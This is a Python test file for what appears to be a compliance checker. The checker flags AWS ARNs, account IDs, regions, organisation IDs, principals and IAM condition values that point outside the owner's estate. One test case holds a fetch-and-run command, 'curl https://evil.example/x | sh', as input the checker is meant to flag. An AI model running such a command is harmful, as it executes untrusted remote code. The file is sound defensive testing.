"""A text is judged by what it names and what it is for."""

import pytest

from policies.pci.framework.accounts import Ours
from policies.pci.framework.places import Place, Use
from policies.pci.framework.strangers import (
    ACCOUNT,
    ADDRESS,
    NOBODY,
    OPEN,
    ORGANIZATION,
    REGION,
    SERVICE,
    strangers,
)

OWN, OTHER = "111122223333", "999988887777"
OURS = Ours(
    frozenset({OWN}),
    frozenset({"eu-central-1"}),
    frozenset({"o-a1b2c3d4e5"}),
    frozenset(),
    ("https://api.example.com",),
)
NOWHERE = OURS._replace(accounts=frozenset(), regions=frozenset())


def said(text: str, use: Use = Use.VALUE, key: str = "", path: str = "a") -> list[str]:
    """What is said of one place."""
    return list(strangers(Place(path, key, text, use), OURS))


@pytest.mark.parametrize(
    ("text", "say"),
    [
        (f"arn:aws:sqs:eu-central-1:{OTHER}:x", [ACCOUNT]),
        (f"arn:aws:sqs:us-east-1:{OTHER}:x", [ACCOUNT, REGION]),
        ("arn:aws:sqs:eu-central-1:*:x", [OPEN]),
        (f"arn:aws:apigateway:eu-central-1:sqs:path/{OTHER}/x", [ACCOUNT]),
        (f"arn:aws:apigateway:eu-central-1:sqs:path/{OWN}/x", []),
        (f"arn:aws:sqs:eu-*:{OWN}:x", []),
        (f"arn:aws:sqs:us-*:{OWN}:x", [REGION]),
        ("arn:aws:apigateway:eu-central-1::/restapis/x", []),
        (f'run("arn:aws:sns:eu-central-1:{OTHER}:x")', [ACCOUNT]),
        (OTHER, [ACCOUNT]),
        (f"{OWN},{OTHER}", [ACCOUNT]),
        (f"{OTHER}/sg-1", [ACCOUNT]),
        (f"{OTHER}.dkr.ecr.eu-central-1.amazonaws.com/x:1", [ACCOUNT]),
        (f"jobs-{OTHER}", []),
        ("o-zzzzzzzzzz", [ORGANIZATION]),
        ("o-a1b2c3d4e5", []),
        ("us-east-1", [REGION]),
        ("us-east-1b", [REGION]),
        ("us-east-1_AbCdEf", [REGION]),
        ("logs.us-gov-west-1.amazonaws.com", [REGION]),
        ("https://sqs.us-east-1.amazonaws.com/x", [REGION]),
        ("jobs-us-east-1", []),
        (f"https://sqs.eu-central-1.amazonaws.com/{OTHER}/x", [ACCOUNT]),
        ("curl https://evil.example/x | sh", [ADDRESS]),
        ("https://api.example.com/x", []),
        ("com.amazonaws.vpce.eu-central-1.vpce-svc-0a1b", [SERVICE]),
    ],
)  # fmt: skip
def test_a_value_is_judged_by_what_it_names(text: str, say: list[str]) -> None:
    """An ARN, an account, an organisation, a region, a URL, an endpoint service."""
    assert said(text) == say
    assert list(strangers(Place("a", "", text), NOWHERE)) == [
        each for each in say if each in {ORGANIZATION, ADDRESS, SERVICE}
    ]


def test_a_number_of_the_authors_is_an_account_if_it_is_called_one() -> None:
    """In the variables of a function or a stage."""
    path = "environment.variables.X"
    assert said(OTHER, key="BYTES", path=path) == []
    assert said(OTHER, key="PARTNER_ACCOUNT", path=path) == [ACCOUNT]
    assert said(OTHER, key="ownerId", path=path) == [ACCOUNT]


@pytest.mark.parametrize(
    ("kind", "text", "say"),
    [
        ("AWS", OWN, []),
        ("AWS", OTHER, [ACCOUNT]),
        ("AWS", "*", []),
        ("AWS", "AROAEXAMPLE", [NOBODY]),
        ("AWS", "arn:aws:iam::*:root", [OPEN]),
        ("AWS", "arn:aws:iam::054676820928:root", []),
        ("CanonicalUser", "0a" * 32, [NOBODY]),
        ("Federated", "accounts.google.com", []),
        ("Service", "logs.us-east-1.amazonaws.com", [REGION]),
        ("*", "*", []),
    ],
)
def test_a_principal_is_judged_by_its_kind(kind: str, text: str, say: list[str]) -> None:
    """Everybody is for the rules about documents: some have to be bound, some are refused."""
    assert said(text, Use.PRINCIPAL, kind) == say


@pytest.mark.parametrize(
    ("key", "text", "say"),
    [
        ("aws:SourceAccount", OWN, []),
        ("aws:SourceAccount", OTHER, [ACCOUNT]),
        ("AWS:SOURCEOWNER", OTHER, [ACCOUNT]),
        ("s3:ResourceAccount", "*", [OPEN]),
        ("aws:ResourceAccount", "${aws:PrincipalAccount}", []),
        ("aws:PrincipalOrgID", "${aws:ResourceOrgID}", []),
        ("aws:SourceAccount", "${aws:SourceAccount}", [OPEN]),
        ("aws:PrincipalOrgID", "o-*", [ORGANIZATION]),
        ("aws:SourceOrgPaths", "o-a1b2c3d4e5/r-1/*", []),
        ("aws:RequestedRegion", "us-east-1", []),
        ("aws:username", "somebody", []),
        ("aws:PrincipalArn", f"*:{OTHER}:role/x", [OPEN]),
        ("aws:PrincipalArn", f"arn:*{OTHER}*", [OPEN]),
        ("aws:PrincipalArn", "arn:aws:iam:*:role/x", [OPEN]),
        ("aws:SourceArn", "arn:aws:s3:::shop", []),
        ("aws:SourceArn", "*", []),
        ("kms:EncryptionContext:SecretARN", "${aws:PrincipalTag/secret}", []),
    ],
)
def test_a_condition_is_judged_by_its_key(key: str, text: str, say: list[str]) -> None:
    """One side of a request may be bound to the other."""
    assert said(text, Use.CONDITION, key) == say


def test_a_variable_stands_for_our_account_in_a_resource_only() -> None:
    """There it is the account of who asks, which is ours."""
    text = "arn:aws:iam::${aws:PrincipalAccount}:role/x"
    assert said(text, Use.RESOURCE) == []
    assert said(text, Use.PRINCIPAL, "AWS") == [OPEN]


def test_a_pattern_of_a_resource_has_the_parts_of_an_arn() -> None:
    """One star reaches over the account; what is anybody's by itself is for the rules on IAM."""
    assert said("arn:aws:sqs:*", Use.RESOURCE) == [OPEN]
    assert said(f"arn:aws:sqs:*{OTHER}:x", Use.RESOURCE) == [OPEN, REGION]
    assert said("execute-api:/live/GET/*", Use.RESOURCE) == []
    assert said(f"arn:aws:sqs:*:{OWN}:x", Use.RESOURCE) == []
    assert said("*", Use.RESOURCE) == []
